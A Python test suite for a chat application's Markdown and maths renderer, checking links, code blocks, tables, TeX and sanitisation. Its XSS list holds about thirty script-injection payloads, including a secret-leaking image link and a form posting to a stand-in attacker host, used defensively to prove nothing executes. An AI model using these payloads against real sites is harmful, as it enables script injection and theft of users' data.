"""What a block looks like, and what never gets into it."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chatapp.markdown import Renderer
from chatapp.markup.parser import MAX_HIGHLIGHT_CHARS
from chatapp.markup.plain import plain_blocks
from chatapp.markup.render import MAX_BLOCK_CHARS
from tests.chatapp.inline_jail import InlineJail
from tests.examples import examples

XSS = [
    '<img src=x onerror=alert("XSS_POC")>',
    "[click](javascript:alert(document.domain))",
    "[click](JaVaScRiPt&colon;alert(1))",
    "[click](\x01javascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x)",
    "[click](//evil.example)",
    "[click](/logout/)",
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    "![x](javascript:alert(1))",
    "![x](http://evil.example/?q=secret)",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "$\\text{<script>alert(1)</script>}$",
    "$$\n\\text{</mtext></math><img/src=x/onerror=alert(1)>}\n$$",
    "$\\text{<svg/onload=alert(1)>}$",
    "$\\text{<a href='javascript:alert(1)' id='x' style='x' class='owner'>x</a>}$",
    "$\\text{<style>*{display:none}</style><form action=//evil.example><input name=p></form>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\class{owner}{x}$",
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    '| <script> | "onclick=x |\n|:-:|---|\n| <img src=x> | `</code><script>` |',
    '[x](https://a.example "title\\" onmouseover=alert(1)")',
    "`</code></pre><script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--><script>alert(1)</script>-->",
    "<a href='https://x' target=_self onclick=alert(1)>x</a>",
]
TAGS = """
    p br hr h1 h2 h3 h4 h5 h6 blockquote ul ol li pre code em strong s a span figure figcaption
    table thead tbody tr th td math mrow mi mn mo mtext mspace msub msup msubsup mfrac msqrt mtable mtr mtd mstyle
"""
ATTRIBUTES = {"href", "title", "rel", "target", "class", "start", "display"}


class Audit(HTMLParser):
    """Fails on any tag or attribute that a message must not bring into the page."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS.split(), tag
        for name, value in attrs:
            assert name in ATTRIBUTES or (tag.startswith("m") and not name.startswith(("on", "href", "style", "id"))), (
                name
            )
            if name == "href":
                assert re.match(r"https?://|mailto:", value or ""), value
        if tag == "a":
            assert dict(attrs)["target"] == "_blank"
            assert dict(attrs)["rel"] == "noopener noreferrer nofollow"


def render(text: str) -> str:
    return "\n".join(Renderer(InlineJail()).render_many([text])[0])


def text_of(html: str) -> str:
    parts: list[str] = []
    parser = HTMLParser()
    parser.handle_data = parts.append  # type: ignore[method-assign]
    parser.feed(html)
    parser.close()
    return "".join(parts)


@pytest.mark.parametrize("text", XSS)
def test_nothing_that_runs_or_calls_out_gets_through(text: str) -> None:
    Audit().feed(render(text))
    Audit().feed(render(f"- > {text}\n\n{text} {text}"))
    Audit().feed("".join(plain_blocks(text)))


@settings(max_examples=examples(200), deadline=None)
@given(
    parts=st.lists(
        st.one_of(st.sampled_from(XSS), st.sampled_from(["\n", "\n\n", "$", "`", "|", "> ", "- ", "<", '"']))
    )
)
def test_nothing_gets_through_in_combination(parts: list[str]) -> None:
    Audit().feed(render("".join(parts)))


def test_html_is_shown_as_text() -> None:
    assert render("a <b>c</b>") == "<p>a &lt;b&gt;c&lt;/b&gt;</p>"


def test_links_leave_the_page_without_a_trace() -> None:
    expected = '<a href="https://x.org/?a=1&amp;b" target="_blank" rel="noopener noreferrer nofollow">x</a>'
    assert render("[x](https://x.org/?a=1&b)") == f"<p>{expected}</p>"
    assert 'href="mailto:a@b.org"' in render("<a@b.org>")


@pytest.mark.parametrize(
    ("text", "address", "shown"),
    [
        ("see https://x.org/a_b?c=d.", "https://x.org/a_b?c=d", "see https://x.org/a_b?c=d."),
        ("(HTTP://x.org/a_(b))", "HTTP://x.org/a_(b)", "(HTTP://x.org/a_(b))"),
        ("**https://x.org**", "https://x.org", "https://x.org"),
        ("\u89c1https://x.org/\u4f60\u597d\uff0c\u597d", "https://x.org/%E4%BD%A0%E5%A5%BD", None),
        ("\u89c1 https://x.org/a\u3002", "https://x.org/a", "\u89c1 https://x.org/a\u3002"),
        ("| https://x.org |\n|---|", "https://x.org", None),
    ],
)
def test_bare_address_is_a_link(text: str, address: str, shown: str | None) -> None:
    html = render(text)
    assert re.findall('href="([^"]*)"', html) == [address]
    assert shown is None or text_of(html) == shown


@pytest.mark.parametrize(
    "text", ["http://", "xhttp://y.org", "`https://x.org`", "https:/x", "javascript://x.org", "https://."]
)
def test_not_everything_with_a_colon_is_a_link(text: str) -> None:
    assert "<a " not in render(text)


def test_address_inside_a_link_is_its_text() -> None:
    assert render("[https://x.org](https://y.org)").count("<a ") == 1
    assert 'href="https://y.org"' in render("[https://x.org](https://y.org)")


def test_image_is_a_link_with_its_alternative_text() -> None:
    assert '<a href="https://x.org/a.png"' in render("![a *cat*](https://x.org/a.png)")
    assert text_of(render("![a *cat*](https://x.org/a.png)")) == "a cat"
    linked = render("[![cat](https://x.org/a.png)](https://y.org)")
    assert linked.count("<a ") == 1
    assert "y.org" in linked


def test_code_block_has_label_and_classes_and_keeps_its_text() -> None:
    code = "\n\ndef f(x):\n\treturn '<&>' # \u4f60\n\n"
    html = render(f"```Python title=x\n{code}```")
    assert html.startswith('<figure class="code"><figcaption>python</figcaption><pre><code>')
    assert '<span class="k">def</span>' in html
    assert "style=" not in html
    assert text_of(html) == "python" + code.removesuffix("\n")


@pytest.mark.parametrize("info", ["", "nosuchlanguage", "x" * 500, "{.python}"])
def test_code_block_of_no_known_language_is_plain(info: str) -> None:
    html = render(f"```{info}\na < b\n```")
    assert "<code>a &lt; b</code>" in html
    assert len(html) < 200


def test_unclosed_fence_is_a_code_block() -> None:
    assert "<code>x" in render("```\nx\n\ny")


def test_table_alignment_is_a_class() -> None:
    html = render("| a | b |\n|:-:|--:|\n| 1 | 2 |")
    assert '<th class="align-center">a</th>' in html
    assert '<td class="align-right">2</td>' in html


def test_task_list_has_ballot_boxes_and_no_form_controls() -> None:
    html = render("- [x] done\n- [ ] open\n- plain")
    assert '<span class="task">\u2611</span> done' in html
    assert '<span class="task">\u2610</span> open' in html
    assert "<input" not in html


def test_line_break_is_kept() -> None:
    assert render("a\nb") == "<p>a<br>\nb</p>"


@pytest.mark.parametrize("text", ["$x^2$", "\\(x^2\\)", "a $$x^2$$ b"])
def test_inline_maths_is_mathml(text: str) -> None:
    assert "<msup><mi>x</mi><mn>2</mn></msup>" in render(text)


@pytest.mark.parametrize(
    "text", ["$$\nx^2\n$$", "\\[\nx^2\n\\]", "$$x^2$$", "text:\n$$\nx^2\n$$", "- a\n\n  $$\n  x^2\n  $$"]
)
def test_display_maths_is_a_block(text: str) -> None:
    html = render(text)
    assert '<math display="block">' in html
    assert "<msup>" in html


def test_aligned_equations_are_a_table() -> None:
    html = render("$$\n\\begin{aligned} a &= b \\\\ c &= d \\end{aligned}\n$$")
    assert html.count("<mtr>") == 2


@pytest.mark.parametrize("text", ["it costs $5 and $6", "a $ b $ c", "US$5 or US$6", "\\$x\\$", "$ x$", "$x $"])
def test_dollars_are_not_always_maths(text: str) -> None:
    assert "<math" not in render(text)


@pytest.mark.parametrize(
    "tex", ["\\frac{", "\\nosuchcommand{x}", "^", "\\begin{nosuch}a & b\\end{nosuch}", "{" * 900, "a" * 3000]
)
def test_wrong_tex_is_shown_as_source(tex: str) -> None:
    html = render(f"$${tex}$$")
    assert "<math" not in html
    assert tex in text_of(html)


def test_wrong_tex_stands_in_a_code_span() -> None:
    assert render("$\\frac{$") == '<p><code class="tex">$\\frac{$</code></p>'


def test_definition_makes_links_of_the_whole_message() -> None:
    html = render("[a] and [t][A]\n\n[a]: <https://x.org> 'T'\n[a]: https://y.org")
    assert html.count('href="https://x.org" title="T"') == 2
    assert "y.org" not in html


def test_oversized_block_is_plain() -> None:
    html = render("*word* " * (MAX_BLOCK_CHARS // 6) + "\n\nnext *one*")
    assert html.startswith('<pre class="plain">*word*')
    assert html.endswith("<p>next <em>one</em></p>")


def test_oversized_code_block_is_not_highlighted() -> None:
    html = render("```python\n" + "x = 1\n" * (MAX_HIGHLIGHT_CHARS // 6 + 1) + "```")
    assert html.startswith('<figure class="code"><figcaption>python</figcaption><pre><code>x = 1\n')
    assert "<span" not in html


@pytest.mark.parametrize("mark", ["> ", "- ", "1. ", "> - "])
def test_deep_nesting_is_plain_and_loses_nothing(mark: str) -> None:
    text = mark * 100 + "needle"
    assert text_of(render(text)) == text


def test_moderate_nesting_is_rendered() -> None:
    text = "".join("  " * level + "- item\n" for level in range(12))
    assert render(text).count("<ul>") == 12


def test_text_that_utf8_cannot_hold_is_replaced() -> None:
    html = render("a\ud800b\x00c")
    assert html == "<p>a\ufffdb\ufffdc</p>"
    "".join(plain_blocks("a\ud800")).encode()


def test_empty_text_has_no_blocks() -> None:
    renderer = Renderer(InlineJail())
    assert renderer.render_many(["", " \n\t\n"]) == [(), ()]
    assert plain_blocks(" \n\n") == ()


@settings(deadline=None)
@given(text=st.text(alphabet="ab`~# \n\r<&\"'", max_size=80))
def test_plain_blocks_show_every_word(text: str) -> None:
    shown = re.sub(r"[`~\s]", "", text_of("".join(plain_blocks(text))))
    assert shown == re.sub(r"[`~\s]", "", text)
